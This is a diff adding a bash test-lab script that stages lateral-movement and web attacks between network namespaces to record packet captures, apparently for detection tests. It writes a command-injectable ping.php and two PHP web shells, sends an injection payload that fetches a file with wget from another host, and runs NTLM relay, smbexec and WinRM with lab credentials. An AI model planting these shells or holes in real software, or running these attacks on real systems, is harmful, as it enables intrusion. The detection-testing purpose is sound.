@@ -1,0 +1,183 @@
+#!/bin/bash
+# SPDX-License-Identifier: MIT
+# steps.sh SCENARIO...|all|list: steps from host to host and into a web server by packaged programs, between the namespaces of
+# ns.sh, recorded at the gateway into tests/replay/<scenario>/input.pcap.
+#
+# Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping samba smbclient python3-impacket python3-ldap3 python3-winrm openssh-server
+# openssh-client php-cli weevely curl wget.
+set -eu
+export XFL_PREFIX=${XFL_PREFIX:-stp}
+all=(relay_ntlmrelayx shares_netview pivot_smbexec edges_smbexec winrm_pywinrm web_exploit_php web_shell_php benign_steps)
+# shellcheck source=tests/lab/lab.sh
+. "$(dirname "$0")/lab.sh"
+secret=Secret-1
+client=(smbclient -U "CORP/root%$secret")
+
+prepare() {
+    local last
+    mkdir -p "$dir"/{admin/Temp,docs,me,www/upload}
+    printf 'MZ\x90\0' | cat - <(head -c 60 /dev/zero) >"$dir/me/updater.exe"
+    python3 - "$dir/me/updater.exe" <<'PY'
+import random, struct, sys
+random.seed(7)
+head = b'MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0' + bytes(44) + struct.pack('<I', 128) + bytes(64) + b'PE\0\0\x64\x86\6\0'
+open(sys.argv[1], 'wb').write(head + bytes(random.randrange(256) for _ in range(9000)))
+PY
+    scripts
+    echo '<p>Tea, bread and the weather.</p>' >"$dir/www/index.html"
+    echo 'echo ok' >"$dir/docs/x"
+    for last in $(seq 23 33); do ip -n "$XFL_PREFIX-srv" addr add "10.20.2.$last/24" dev xs1; done
+    ip -n "$XFL_PREFIX-srv" route add 10.20.1.0/24 via 10.20.2.1 src 10.20.2.20 # hosts of this side speak as what they are
+    chmod -R a+rwX "$dir"
+    shares srv
+}
+
+scripts() { # a page that does what it should not, and two that intruders leave
+    cat >"$dir/www/ping.php" <<'PHP'
+<?php echo "<pre>" . shell_exec("ping -c 1 -W 1 " . $_GET["ip"] . " 2>&1") . "</pre>";
+PHP
+    echo "<?php system(\$_POST['c']);" >"$dir/www/upload/img_7.php"
+    echo "<?php eval(base64_decode(\$_POST['z']));" >"$dir/www/upload/img_8.php"
+}
+
+shares() { # namespace: a server of Windows' shares
+    local at=$dir/smb-$1
+    mkdir -p "$at"
+    cat >"$at/smb.conf" <<CONF
+[global]
+ workgroup = CORP
+ netbios name = HOST-$1
+ smb ports = 445
+ lock directory = $at
+ state directory = $at
+ cache directory = $at
+ pid directory = $at
+ private dir = $at
+ ncalrpc dir = $at/ncalrpc
+ log file = $at/smbd.log
+ passdb backend = tdbsam:$at/passdb.tdb
+ disable spoolss = yes
+ load printers = no
+ server smb encrypt = off
+ ntlm auth = yes
+ admin users = root
+[ADMIN\$]
+ path = $dir/admin
+ read only = no
+[docs]
+ path = $dir/docs
+ read only = no
+CONF
+    printf '%s\n%s\n' $secret $secret | smbpasswd -c "$at/smb.conf" -s -a root >/dev/null 2>&1
+    bg "smbd-$1" ip netns exec "$XFL_PREFIX-$1" smbd -F --no-process-group -s "$at/smb.conf"
+    sleep 1.5
+}
+
+example() { # namespace seconds example arguments...
+    ip netns exec "$XFL_PREFIX-$1" timeout "$2" /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$3.py" "${@:4}" || true
+}
+
+from() { # namespace address command...: speaks from that address
+    local net=10.20.1 far=2
+    [ "$1" = srv ] || { net=10.20.2 far=1; }
+    ip -n "$XFL_PREFIX-$1" route replace "$net.0/24" via "10.20.$far.1" src "$2"
+    ip netns exec "$XFL_PREFIX-$1" "${@:3}" || true
+}
+
+# ---- scenarios ----
+
+relay_ntlmrelayx() { # 10.20.2.21 opens a share of the relay at 10.20.1.13, which goes on to 10.20.2.20 as that user
+    local name
+    mkdir -p "$dir"/lib/dsinternals/{system,common/cryptography,common/data/hello} # named at the head of its LDAP attack, not used here
+    for name in system/Guid common/cryptography/X509Certificate2 system/DateTime common/data/hello/KeyCredential; do
+        echo "${name##*/} = None" >"$dir/lib/dsinternals/$name.py"
+    done
+    from cli 10.20.1.13 true
+    sleep 60 | "${cli[@]}" env "PYTHONPATH=$dir/lib" /usr/bin/python3 /usr/share/doc/python3-impacket/examples/ntlmrelayx.py \
+        -t smb://10.20.2.20 -smb2support --no-http-server --no-wcf-server --no-raw-server -ip 10.20.1.13 -l "$dir/me" >"$dir/relayx.log" 2>&1 &
+    pids+=($!)
+    for _ in $(seq 40); do
+        "${cli[@]}" ss -ltn | grep -q 10.20.1.13:445 && break
+        sleep 0.5
+    done
+    from srv 10.20.2.21 timeout 8 "${client[@]}" //10.20.1.13/docs -c ls
+    sleep 3
+}
+
+shares_netview() { # host after host asked who has sessions there (netview leaves every other one out)
+    from cli 10.20.1.10 true
+    seq -f '10.20.2.%g' 20 33 >"$dir/targets"
+    example cli 40 netview -targets "$dir/targets" -noloop "CORP/root:$secret"
+}
+
+copy() { # namespace own-address server
+    from "$1" "$2" timeout 10 "${client[@]}" "//$3/ADMIN\$" -c "cd Temp; lcd $dir/me; put updater.exe"
+}
+
+pivot_smbexec() { # a program and a service to 10.20.2.20, from there to 10.20.1.12
+    shares cli
+    copy cli 10.20.1.10 10.20.2.20
+    example cli 15 smbexec "CORP/root:$secret@10.20.2.20"
+    copy srv 10.20.2.20 10.20.1.12
+    example srv 15 smbexec "CORP/root:$secret@10.20.1.12"
+}
+
+edges_smbexec() { # 10.20.1.10 administers 10.20.2.20, after a week again; then 10.20.1.11 does so to 10.20.2.22
+    copy cli 10.20.1.10 10.20.2.20
+    "${cli[@]}" ping -q -s 8 -c 290 -i 0.1 10.20.2.20 # somebody is always there: packets tell the time
+    copy cli 10.20.1.10 10.20.2.20
+    sleep 1
+    copy cli 10.20.1.11 10.20.2.22
+    example cli 15 smbexec "CORP/root:$secret@10.20.2.22"
+}
+finish_edges_smbexec() { longer "$1" 800000 0.09; }
+
+winrm_pywinrm() {
+    bg winrm "${srv[@]}" python3 "$here/winrm_answer.py" 10.20.2.20
+    sleep 0.7
+    from cli 10.20.1.10 /usr/bin/python3 -c '
+import winrm
+s = winrm.Session("http://10.20.2.20:5985/wsman", auth=("CORP\\administrator", "Winter-24"), transport="basic")
+for c in ("whoami", "hostname", "ipconfig"):
+    print(s.run_cmd(c).std_out)
+print(s.run_ps("Get-Process").status_code)'
+}
+
+php() { # a web server inside with three scripts
+    bg php "${cli[@]}" php -S 10.20.1.12:80 -t "$dir/www"
+    bg files "${srv[@]}" python3 -m http.server -b 203.0.113.21 -d "$dir/docs" 8088
+    ip -n "$XFL_PREFIX-srv" route del 10.20.1.0/24 2>/dev/null || true
+    ip -n "$XFL_PREFIX-cli" route replace 203.0.113.0/24 via 10.20.1.1 src 10.20.1.12
+    sleep 0.7
+}
+
+web_exploit_php() { # a command behind a separator: the server fetches what it is told to
+    php
+    "${srv[@]}" curl -s -m 8 --interface 203.0.113.20 -G --data-urlencode 'ip=127.0.0.1;wget http://203.0.113.21:8088/x -O /tmp/stp.x' http://10.20.1.12/ping.php || true
+    rm -f /tmp/stp.x
+}
+
+web_shell_php() { # scripts that carry out what they are sent
+    local c
+    php
+    for c in id whoami 'uname -a' 'cat /etc/passwd' 'ls -la /'; do
+        "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 --data-urlencode "c=$c" http://10.20.1.12/upload/img_7.php || true
+        sleep 0.4
+    done
+    "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 --data-urlencode "z=$(printf 'system("id; ls -la /");' | base64 -w 0)" \
+        http://10.20.1.12/upload/img_8.php || true
+}
+
+benign_steps() { # a user's files, an administrator's look at a server and at services, a page asked for
+    copy_docs 10.20.1.10
+    copy_docs 10.20.1.11
+    example cli 10 services "CORP/root:$secret@10.20.2.20" list
+    from cli 10.20.1.10 timeout 8 "${client[@]}" -L 10.20.2.20
+    php
+    "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 'http://10.20.1.12/ping.php?ip=127.0.0.1' || true
+    "${srv[@]}" curl -s -m 5 --interface 203.0.113.20 http://10.20.1.12/ || true
+}
+
+copy_docs() { from cli "$1" timeout 8 "${client[@]}" //10.20.2.20/docs -c "ls; get x $dir/me/got; lcd $dir/me; put got"; }
+
+run_lab "$@"
